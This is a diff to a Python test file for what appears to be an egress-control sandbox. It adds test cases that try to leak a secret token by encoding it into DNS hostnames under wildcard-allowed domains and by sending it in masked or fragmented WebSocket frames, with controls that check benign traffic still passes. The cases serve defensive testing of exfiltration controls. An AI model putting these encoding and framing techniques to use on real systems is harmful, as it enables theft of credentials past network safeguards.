@@ -158,7 +158,6 @@ outer = whole('POST', '/seen/ok', more='Transfer-Encoding: chunked\\r\\n', body=
 attempt(lambda: https(outer))
 """,
         code=BAD,
-        tainted=False,  # refused by its head, before anybody has seen the body
     ),
     misuse(
         "hidden-behind-a-length",
@@ -200,7 +199,6 @@ words.append(f"http://{GOOD}/ok/{MARK}")
 attempt(lambda: subprocess.run(words, capture_output=True, timeout=9).stdout)
 """,
         code=BAD,
-        tainted=False,  # refused by its first bytes
     ),
 )
 def test_between_the_requests(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
@@ -328,6 +326,108 @@ attempt(lambda: tell(proxy('{DENIED_NAME}', 80), head))
 )
 def test_what_is_refused_anyway(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
     carry_out_kept(attack)
+
+
+BELOW, UNSEEN = "x.public.example.net", "y.public.example.net"
+WILD = (
+    NETWORK.replace("allow = [", f'allow = ["*.{BELOW}:80,443", {{ host = "*.{UNSEEN}", inspection = "sni" }}, ')
+    + SECRETS
+)
+NAMED = """
+def dotted(text):
+    text = text.rstrip("=").lower()
+    return text[:50] + "." + text[50:] if text[50:] else text
+
+name = {label} + "." + MARK + ".{below}"
+attempt(lambda: {step})
+"""
+IN_A_TUNNEL = "tell(secure(connect(name.encode() + b':443', name, 443), name), whole(path='/', host=name))"
+
+
+def named(name: str, step: str, *, label: str = "TOKEN", below: str = BELOW) -> Attack:
+    """A host whose name holds the placeholder: whoever answers for the domain is asked for it, before any request."""
+    return misuse(name, NAMED.format(label=label, below=below, step=step), policy=WILD)
+
+
+@cases(
+    named("name-below-a-wildcard", "http(whole(path='/', host=name), name)"),
+    named("name-below-a-wildcard-by-tls", "https(whole(path='/', host=name), name)"),
+    named("name-below-a-wildcard-in-a-tunnel", IN_A_TUNNEL, below=UNSEEN),
+    named("name-below-a-wildcard-by-the-proxy", "get(proxy(name, 80), name, path='http://' + name + '/')"),
+    named("name-in-capitals", "http(whole(path='/', host=name), name)", label="TOKEN.upper()"),
+    named("name-in-two-labels", "http(whole(path='/', host=name), name)", label="(TOKEN[:9] + '.' + TOKEN[9:])"),
+    named("name-in-hexadecimal", "http(whole(path='/', host=name), name)", label="dotted(TOKEN.encode().hex())"),
+    named(
+        "name-in-base32",
+        "http(whole(path='/', host=name), name)",
+        label="dotted(base64.b32encode(TOKEN.encode()).decode())",
+    ),
+)
+def test_in_a_name_that_would_be_looked_up(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
+    carry_out_kept(attack)
+
+
+def test_other_names_below_the_wildcard_are_looked_up(lab: Lab, require: Callable[..., None]) -> None:
+    require("bubblewrap", "overlay")
+    attack = named("honest-name", "http(whole(path='/' + MARK, host=name), name)", label="'honest'")
+    with Arena.open(attack.prepare, lab) as arena:
+        ran = arena.confined(attack)
+        assert any(arena.values["mark"] in entry.get("path", "") for entry in entries(arena)), ran.output
+        assert "taint" not in {record.kind for record in trail.of_one_run(arena, ran.output)}
+
+
+OVER_A_WEBSOCKET = """
+KEY = b"mask"
+def frame(payload, first=0x81, key=KEY):
+    payload = payload if isinstance(payload, bytes) else payload.encode()
+    masked = bytes(byte ^ key[at % 4] for at, byte in enumerate(payload))
+    size = bytes((0x80 | len(payload),)) if len(payload) < 126 else b"\\xfe" + len(payload).to_bytes(2, "big")
+    return bytes((first,)) + size + key + masked
+
+def spoken(*frames):
+    # What the host has read comes back from it, and that is told by a request of its own.
+    link = secure(direct(GOOD, 443), GOOD)
+    upgrade = "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
+    upgrade += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
+    link.sendall(f"GET /ws HTTP/1.1\\r\\nHost: {GOOD}\\r\\n{upgrade}\\r\\n".encode())
+    data = b""
+    while b"\\r\\n\\r\\n" not in data and (part := link.recv(4096)):
+        data += part
+    for one in frames:
+        link.sendall(one)
+    link.settimeout(2)
+    echo = heard(link) + data.partition(b"\\r\\n\\r\\n")[2]
+    if b"told" in echo:
+        https(whole(path="/told/" + MARK))
+    return echo
+"""
+
+
+def spoken(name: str, frames: str) -> Attack:
+    """Messages over a WebSocket to the host that may get the value, in a header."""
+    return misuse(name, OVER_A_WEBSOCKET + f"attempt(lambda: spoken({frames}, frame('told')))")
+
+
+@cases(
+    spoken("message", "frame(TOKEN)"),
+    spoken("message-in-fragments", "frame(TOKEN[:9], 1), frame(TOKEN[9:], 0x80)"),
+    spoken("message-around-a-ping", "frame(TOKEN[:9], 1), frame('x', 0x89), frame(TOKEN[9:], 0x80)"),
+    spoken("message-of-bytes", "frame(b'\\xff' * 99 + TOKEN.encode(), 0x82)"),
+    spoken("message-in-base64", "frame(mixed(TOKEN))"),
+    spoken("message-without-a-mask", "frame(TOKEN, key=bytes(4))"),
+    spoken("ping", "frame(TOKEN, 0x89)"),
+)
+def test_over_a_websocket(attack: Attack, carry_out_kept: Callable[[Attack], None]) -> None:
+    carry_out_kept(attack)
+
+
+def test_other_messages_are_passed_on(lab: Lab, require: Callable[..., None]) -> None:
+    require("bubblewrap", "overlay")
+    attack = spoken("honest-message", "frame('hello'), frame(b'x' * 3000, 0x82)")
+    with Arena.open(attack.prepare, lab) as arena:
+        ran = arena.confined(attack)
+        assert any(arena.values["mark"] in entry.get("path", "") for entry in entries(arena)), ran.output
+        assert "taint" not in {record.kind for record in trail.of_one_run(arena, ran.output)}
 
 
 FOR_THE_PROXY = """
